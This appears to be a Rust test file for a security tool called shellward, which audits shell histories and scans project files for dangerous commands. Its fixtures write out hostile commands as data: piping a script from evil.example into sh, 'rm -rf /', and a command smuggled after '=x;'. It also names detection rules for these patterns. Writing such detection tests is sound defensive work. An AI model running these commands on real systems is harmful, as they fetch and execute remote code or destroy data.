//! Audits: what the readers make of real samples, and the sub-command as its callers meet it.
//!
//! `tests/audit/histories.toml` holds the samples as data.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

#[path = "support/program.rs"]
mod program;

use serde_json::Value;
use shellward::audit::Entry;
use shellward::audit::format::{self, Batch, Columns, Hint};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct Samples {
    sample: Vec<Sample>,
}

#[derive(serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct Sample {
    /// The file in `histories/`.
    file: String,
    /// The name it has in real life.
    name: Option<String>,
    /// The format that has to be found out.
    format: String,
    /// The column that is asked for.
    column: Option<String>,
    /// Lines that are not of the format.
    #[serde(default)]
    undecodable: u64,
    entry: Vec<Want>,
}

#[derive(Debug, PartialEq, serde::Deserialize)]
#[serde(deny_unknown_fields)]
struct Want {
    line: u64,
    command: String,
    at: Option<i64>,
    user: Option<String>,
    host: Option<String>,
    session: Option<String>,
    remote: Option<String>,
    cwd: Option<String>,
}

impl Want {
    fn of(e: &Entry) -> Want {
        let text = |t: &Option<std::sync::Arc<str>>| t.as_deref().map(str::to_string);
        Want {
            line: e.line,
            command: String::from_utf8(e.command.clone()).unwrap(),
            at: e.at,
            user: text(&e.user),
            host: text(&e.host),
            session: text(&e.session),
            remote: text(&e.remote),
            cwd: text(&e.cwd),
        }
    }
}

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/audit")
}

#[test]
fn readers_read_what_the_programs_write() {
    let text = std::fs::read_to_string(folder().join("histories.toml")).unwrap();
    let samples: Samples = toml::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
    let mut seen = std::collections::BTreeSet::new();
    for sample in samples.sample {
        let bytes = std::fs::read(folder().join("histories").join(&sample.file)).unwrap();
        let path = sample.name.as_deref().unwrap_or(&sample.file);
        let (format, _) = format::detect(&Hint { path, head: &bytes });
        assert_eq!(format.name, sample.format, "{}", sample.file);
        let mut reader = (format.open)(&Columns { command: sample.column.clone() });
        let mut out = Batch::default();
        // The last piece of a split is what stands after the last newline.
        let bytes = bytes.strip_suffix(b"\n").unwrap_or(&bytes);
        for (number, line) in (1..).zip(bytes.split(|b| *b == b'\n')) {
            reader.line(number, line, &mut out);
        }
        reader.end(&mut out);
        let mut got: Vec<Want> = out.entries.iter().map(Want::of).collect();
        got.sort_by_key(|e| e.line);
        assert_eq!(got, sample.entry, "{} {:?}", sample.file, sample.column);
        assert_eq!((out.undecodable, out.too_long), (sample.undecodable, 0), "{}", sample.file);
        seen.insert(format.name);
    }
    assert!(seen.len() >= 11, "{seen:?}");
}

#[test]
fn readers_take_any_bytes() {
    // Lines of every sample go through every reader, whole, halved and with bytes of all values.
    let mut lines: Vec<Vec<u8>> = vec![(0..=255).filter(|b| *b != b'\n').collect(), vec![0x83], b"#1".to_vec()];
    for file in std::fs::read_dir(folder().join("histories")).unwrap() {
        let bytes = std::fs::read(file.unwrap().path()).unwrap();
        lines.extend(bytes.split(|b| *b == b'\n').map(<[u8]>::to_vec));
    }
    let halves: Vec<Vec<u8>> = lines.iter().map(|l| l[..l.len() / 2].to_vec()).collect();
    lines.extend(halves);
    for format in format::FORMATS {
        let mut reader = (format.open)(&Columns::default());
        let mut out = Batch::default();
        for (number, line) in (1..).zip(&lines) {
            reader.line(number, line, &mut out);
        }
        reader.end(&mut out);
        assert!(out.entries.iter().all(|e| !e.command.is_empty()), "{}", format.name);
    }
}

fn audit(args: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_shellward"))
        .arg("audit")
        .args(args)
        .env_remove("NO_COLOR")
        .env("COLUMNS", "100")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    std::thread::scope(|s| {
        s.spawn(move || std::io::Write::write_all(&mut pipe, stdin));
        child.wait_with_output().unwrap()
    })
}

fn lines(out: &Output) -> Vec<Value> {
    assert!(out.stderr.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

const HISTORY: &[u8] = b"#1700000000\nls\n#1700000100\ncurl -s http://evil.example/x.sh | sh\n#1700100000\nrm -rf /\n\
#1700100001\ncurl -s http://evil.example/x.sh | sh\n";

#[test]
fn the_summary_says_what_when_and_where() {
    let out = audit(&["-"], HISTORY);
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(0), "{text}");
    for has in [
        "4 commands, 3 different",
        "2023-11-14 to 2023-11-16",
        "recursive_delete_root",
        "curl_pipe_shell",
        "2 times",
        "-:4",
    ] {
        assert!(text.contains(has), "{has}: {text}");
    }
    let (root, pipe) = (text.find("rm -rf /").unwrap(), text.find("curl -s").unwrap());
    assert!(root < pipe, "the worst comes first: {text}");
}

#[test]
fn json_lines_carry_place_time_and_spans() {
    let out = lines(&audit(&["--json", "-"], HISTORY));
    let commands: Vec<&Value> = out.iter().filter(|v| v["type"] == "command").collect();
    assert_eq!(commands.iter().map(|v| v["line"].as_u64().unwrap()).collect::<Vec<_>>(), [4, 6, 8]);
    assert_eq!(commands[0]["time"], "2023-11-14T22:15:00Z");
    let rules: Vec<&Value> = commands[0]["findings"].as_array().unwrap().iter().map(|f| &f["rule_id"]).collect();
    assert!(rules.contains(&&"curl_pipe_shell".into()), "{rules:?}");
    let summary = out.last().unwrap();
    assert_eq!(
        (&summary["type"], &summary["commands"], &summary["distinct"]),
        (&"summary".into(), &4.into(), &3.into())
    );
    let source = out.iter().find(|v| v["type"] == "source").unwrap();
    assert_eq!((&source["format"], &source["lines"]), (&"bash".into(), &8.into()));
}

#[test]
fn filters_and_exit_codes() {
    let count = |args: &[&str]| {
        let args = [&["--json"], args, &["-"]].concat();
        lines(&audit(&args, HISTORY)).iter().filter(|v| v["type"] == "command").count()
    };
    assert_eq!(count(&["--since", "2023-11-15"]), 2);
    assert_eq!(count(&["--until", "2023-11-15"]), 1);
    assert_eq!(count(&["--rule", "recursive_delete_root"]), 1);
    assert_eq!(count(&["--user", "nobody"]), 0);
    assert_eq!(audit(&["--fail-on", "critical", "-"], HISTORY).status.code(), Some(1));
    assert_eq!(audit(&["--fail-on", "low", "-"], b"ls\n").status.code(), Some(0));
    assert_eq!(audit(&["--since", "soon", "-"], b"").status.code(), Some(64));
    assert_eq!(audit(&["/nowhere/at/all"], b"").status.code(), Some(74));
}

#[test]
fn what_a_limit_of_time_leaves_out_is_said() {
    let out = lines(&audit(
        &["--json", "--format", "bash", "--since", "2020-01-01", "--group-by", "file", "-"],
        b"ls\n#1700000000\nrm -rf /\n",
    ));
    let source = out.iter().find(|v| v["type"] == "source").unwrap();
    assert_eq!((&source["untimed"], &source["commands"]), (&1.into(), &1.into()));
    assert_eq!(out.last().unwrap()["groups"], serde_json::json!({ "-": 1 }));
    let out = audit(&["--rule", "nonsense", "-"], b"rm -rf /\n");
    assert!(String::from_utf8_lossy(&out.stderr).contains("no rule is called nonsense"));
}

#[test]
fn a_table_has_a_row_for_each_finding() {
    let out = audit(&["--csv", "-"], b"=x; rm -rf /\n");
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("time,user,") && text.contains("recursive_delete_root"), "{text}");
    assert!(text.lines().nth(1).unwrap().ends_with(",'=x; rm -rf /"), "{text}");
}

#[test]
fn odd_files_do_not_stop_the_rest() {
    let folder = std::env::temp_dir().join(format!("shellward-audit-{}", std::process::id()));
    std::fs::create_dir_all(folder.join("home/eve/.x")).unwrap();
    let put = |name: &str, bytes: &[u8]| std::fs::write(folder.join("home/eve").join(name), bytes).unwrap();
    put(".bash_history", HISTORY);
    put("notes.txt", b"rm -rf /\n");
    put(".x/binary", &[0u8; 4096]);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut encoder, b"rm -rf /\n").unwrap();
    put("old.bash_history.gz", &encoder.finish().unwrap());
    put("torn.bash_history.gz", &[0x1f, 0x8b, 8, 0, 1, 2, 3]);
    let mut long = vec![b'a'; shellward::limits::MAX_AUDIT_LINE + 1];
    long.extend_from_slice(b"\nrm -rf /");
    put("long.bash_history", &long);
    let out = lines(&audit(&["--json", folder.to_str().unwrap()], b""));
    std::fs::remove_dir_all(&folder).unwrap();
    let of = |name: &str, kind: &str| -> Vec<&Value> {
        out.iter().filter(|v| v["type"] == kind && v["file"].as_str().unwrap_or("").ends_with(name)).collect()
    };
    assert_eq!(of("eve/.bash_history", "command").len(), 3);
    assert!(of(".bash_history", "command").iter().all(|v| v["user"] == "eve"));
    assert_eq!(of("old.bash_history.gz", "command").len(), 1);
    assert!(of("torn.bash_history.gz", "source")[0]["problem"].is_string());
    assert_eq!(of("long.bash_history", "source")[0]["too_long"], 1);
    assert_eq!(of("long.bash_history", "command").len(), 1);
    assert_eq!(out.last().unwrap()["skipped_files"], 1, "{:?}", out.last());
}

fn scan(args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_shellward"));
    command.current_dir(folder().join("project")).arg("scan").args(args).output().unwrap()
}

#[test]
fn a_scan_finds_shell_text_in_files_at_its_place() {
    let out = scan(&["--json", "--markdown", "."]);
    assert_eq!(out.status.code(), Some(1));
    let found: Vec<(String, u64, u64, String)> = lines(&out)
        .iter()
        .filter(|v| ["curl_pipe_shell", "wget_pipe_shell", "recursive_delete_root"].iter().any(|r| v["rule_id"] == *r))
        .map(|v| {
            let text = |name: &str| v[name].as_str().unwrap().to_string();
            (text("file"), v["line"].as_u64().unwrap(), v["column"].as_u64().unwrap(), text("kind"))
        })
        .collect();
    let want = [
        (".github/workflows/ci.yml", 9, 11, "github-actions"),
        (".github/workflows/ci.yml", 10, 15, "github-actions"),
        (".gitlab-ci.yml", 4, 7, "gitlab-ci"),
        ("Dockerfile", 5, 6, "dockerfile"),
        ("Dockerfile", 9, 1, "dockerfile"),
        ("Dockerfile", 11, 19, "dockerfile"),
        ("Makefile", 3, 3, "makefile"),
        ("Makefile", 5, 14, "makefile"),
        ("README.md", 4, 1, "markdown"),
        ("README.md", 8, 3, "markdown"),
        ("crontab", 3, 13, "crontab"),
        ("package.json", 5, 21, "package.json"),
        ("tool", 4, 3, "script"),
    ];
    let want: Vec<_> = want.iter().map(|(f, l, c, k)| ((*f).to_string(), *l, *c, (*k).to_string())).collect();
    assert_eq!(found, want);
}

#[test]
fn sarif_names_rules_and_regions() {
    let out = scan(&["--sarif", "--fail-on", "critical", "tool"]);
    assert_eq!(out.status.code(), Some(0));
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    for result in run["results"].as_array().unwrap() {
        let rule = &run["tool"]["driver"]["rules"][usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap()];
        assert_eq!(rule["id"], result["ruleId"]);
        let region = &result["locations"][0]["physicalLocation"]["region"];
        assert_eq!((&region["startLine"], &region["startColumn"]), (&4.into(), &3.into()), "{result}");
    }
    assert!(!run["results"].as_array().unwrap().is_empty());
}

#[test]
fn a_scan_offers_changes_of_the_file() {
    let folder = std::env::temp_dir().join(format!("shellward-fixes-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let put = |name: &str, text: &str| std::fs::write(folder.join(name), text).unwrap();
    put("a.sh", "# ü\nif x; then\n  curl -k https://e.example/ü -o f\nfi\n");
    put("Dockerfile", "FROM x\nRUN cd a && \\\n    curl -s http://e.example/i | sh\n");
    // The dollar would have to be doubled, or stands for something else.
    put("Makefile", "DIR = x\nall:\n\trm -rf $$X/\n\tcurl -k https://e.example/$(DIR)\n");
    let folder_name = folder.to_str().unwrap();
    let out = scan(&["--json", folder_name]);
    let found = lines(&out);
    let fixed = |file: &str, rule: &str| {
        let of = |v: &&Value| v["file"].as_str().is_some_and(|f| f.ends_with(file)) && v["rule_id"] == rule;
        found.iter().find(of).unwrap_or_else(|| panic!("{file} {rule}: {found:?}"))["fix"].clone()
    };
    let place = |line, column, end: (u64, u64), text| serde_json::json!({ "line": line, "column": column, "end_line": end.0, "end_column": end.1, "text": text });
    assert_eq!(fixed("a.sh", "insecure_tls_flags"), place(3, 8, (3, 11), ""));
    assert_eq!(fixed("Dockerfile", "plain_http_to_sink"), place(3, 17, (3, 17), "s"));
    assert!(fixed("Makefile", "recursive_delete_unset").is_null());
    let out = scan(&["--sarif", folder_name]);
    std::fs::remove_dir_all(&folder).unwrap();
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    let result = results.iter().find(|r| r["ruleId"] == "plain_http_to_sink").unwrap();
    let replacement = &result["fixes"][0]["artifactChanges"][0]["replacements"][0];
    assert_eq!(replacement["insertedContent"]["text"], "s", "{result}");
    assert_eq!(replacement["deletedRegion"]["startLine"], 3, "{result}");
}

#[test]
fn a_baseline_takes_what_is_known() {
    let file = std::env::temp_dir().join(format!("shellward-baseline-{}", std::process::id()));
    let name = file.to_str().unwrap();
    assert_eq!(scan(&["--write-baseline", name, "tool"]).status.code(), Some(1));
    let out = scan(&["--json", "--baseline", name, "tool", "crontab"]);
    std::fs::remove_file(&file).unwrap();
    assert!(lines(&out).iter().all(|v| v["file"] == "crontab" || v["type"] == "summary"));
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(scan(&["--baseline", name, "tool"]).status.code(), Some(64));
    assert_eq!(scan(&["/nowhere"]).status.code(), Some(74));
}

#[cfg(unix)]
#[test]
fn a_directory_without_rights_is_said_and_the_rest_is_read() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    // Root may read everything: as root, it is somebody else who asks.
    let nobody = 65_534;
    let root = Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout == b"0\n");
    let folder = std::env::temp_dir().join(format!("shellward-rights-{}", std::process::id()));
    for (name, mode) in [("", 0o755), ("open", 0o755), ("shut", 0o000)] {
        let dir = folder.join(name);
        std::fs::create_dir_all(&dir).unwrap();
        if !name.is_empty() {
            std::fs::write(dir.join(".bash_history"), "rm -rf /\n").unwrap();
        }
        std::fs::set_permissions(&dir, PermissionsExt::from_mode(mode)).unwrap();
    }
    std::fs::write(folder.join("open/.zsh_history"), "rm -rf /\n").unwrap();
    std::fs::set_permissions(folder.join("open/.zsh_history"), PermissionsExt::from_mode(0o000)).unwrap();
    // The program may lie where nobody else can go.
    let program = folder.join("program");
    program::place(Path::new(env!("CARGO_BIN_EXE_shellward")), &program);
    std::fs::set_permissions(&program, PermissionsExt::from_mode(0o755)).unwrap();
    let mut command = Command::new(&program);
    command.args(["audit", "--json"]).arg(&folder).current_dir("/").env("HOME", "/nonexistent");
    if root {
        command.uid(nobody).gid(nobody);
    }
    let out = command.output().unwrap();
    let found = lines(&out);
    std::fs::set_permissions(folder.join("shut"), PermissionsExt::from_mode(0o755)).unwrap();
    let _ = std::fs::remove_dir_all(&folder);
    assert_eq!(found.iter().filter(|v| v["type"] == "command").count(), 1, "{found:?}");
    let problem = |end: &str| {
        let source = found.iter().find(|v| v["type"] == "source" && v["file"].as_str().unwrap().ends_with(end));
        source.unwrap_or_else(|| panic!("{end}: {found:?}"))["problem"].as_str().unwrap().to_string()
    };
    assert!(problem("/shut").contains("denied") && problem("/.zsh_history").contains("denied"), "{found:?}");
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn a_file_that_grows_is_read_as_far_as_it_went() {
    use std::io::Write;
    use std::sync::atomic::{AtomicBool, Ordering};
    let path = std::env::temp_dir().join(format!("shellward-grows-{}.bash_history", std::process::id()));
    std::fs::write(&path, "ls\n".repeat(1_000) + "rm -rf /\n").unwrap();
    let done = AtomicBool::new(false);
    let out = std::thread::scope(|s| {
        s.spawn(|| {
            let mut file = std::fs::OpenOptions::new().append(true).open(&path).unwrap();
            // A line at a time, and the last one half.
            while !done.load(Ordering::Relaxed) {
                file.write_all(b"cd a\ncd ").unwrap();
                file.write_all(b"b\n").unwrap();
            }
        });
        let out = lines(&audit(&["--json", path.to_str().unwrap()], b""));
        done.store(true, Ordering::Relaxed);
        out
    });
    std::fs::remove_file(&path).unwrap();
    assert_eq!(out.iter().filter(|v| v["type"] == "command").count(), 1);
    assert!(out.last().unwrap()["commands"].as_u64().unwrap() >= 1_001, "{:?}", out.last());
}

#[cfg(unix)]
#[test]
fn an_interrupt_gives_the_report_so_far() {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_shellward"))
        .args(["audit", "--format", "bash", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let lines = ["rm -rf /\n", &"ls\n".repeat(5_000)].concat();
    // More than a pipe holds: it reads, so it listens.
    for _ in 0..40 {
        pipe.write_all(lines.as_bytes()).unwrap();
    }
    let sent = Command::new("sh").args(["-c", &format!("kill -INT {}", child.id())]).status().unwrap();
    assert!(sent.success());
    // It ends though more would come.
    while pipe.write_all(lines.as_bytes()).is_ok() {}
    let out = child.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.contains("Stopped before the end") && text.contains("rm -rf /"), "{text}");
}
